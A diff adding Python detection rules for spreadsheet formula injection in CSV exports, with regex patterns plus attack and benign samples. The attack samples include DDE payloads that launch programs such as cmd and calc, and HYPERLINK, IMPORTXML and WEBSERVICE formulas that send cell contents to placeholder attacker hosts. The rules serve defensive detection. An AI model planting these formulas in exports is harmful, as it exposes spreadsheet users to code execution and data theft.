@@ -1,0 +1,22 @@
+"""Spreadsheet formulas in values that end up in an export: a sign of what may come, certain only where a program is started."""
+
+from __future__ import annotations
+
+from .rule import Rule
+
+_FAMILY = "csv"
+
+RULES = (
+    Rule(
+        "LG-CSV-001", _FAMILY, "spreadsheet formula that starts a program (DDE)", cwe=1236, capec=248, needles=("|",),
+        pattern=r"(?:^|[,;\t\n\"'])[\s\"']{0,3}[=+@-][^\n,;]{0,80}?\b(?:cmd|powershell|msexcel|mshta|regsvr32|rundll32|certutil|excel|calc|notepad|bitsadmin|wscript|explorer)(?:\.exe)?\s*\|\s*['\"/_ ]|^\s*=\s*DDE\s*\(",
+        attacks=("=cmd|' /C notepad'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", 'x,"=cmd|\'/c ping x\'!A1"'),
+        benign=("a = cmd | grep x", ("body", "- run cmd | more to page the output")),
+    ),
+    Rule(
+        "LG-CSV-002", _FAMILY, "spreadsheet formula that fetches or links", cwe=1236, capec=248, severity="medium", confidence="medium", needles=("(",),
+        pattern=r"^[\s\"']{0,3}[=+@-]\s*\w{0,20}\(?[^\n]{0,40}?\b(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|HTML|FEED|DATA|RANGE)|IMAGE|FILTERXML|CALL|REGISTER\.ID|EXEC|DDE|RTD)\s*\(",
+        attacks=('=HYPERLINK("http://evil.example/"&A1,"x")', '=IMPORTXML(CONCAT("http://e.example/",A1),"//a")', '+WEBSERVICE("http://e.example")'),
+        benign=("=total", "- image (large)"),
+    ),
+)  # fmt: skip
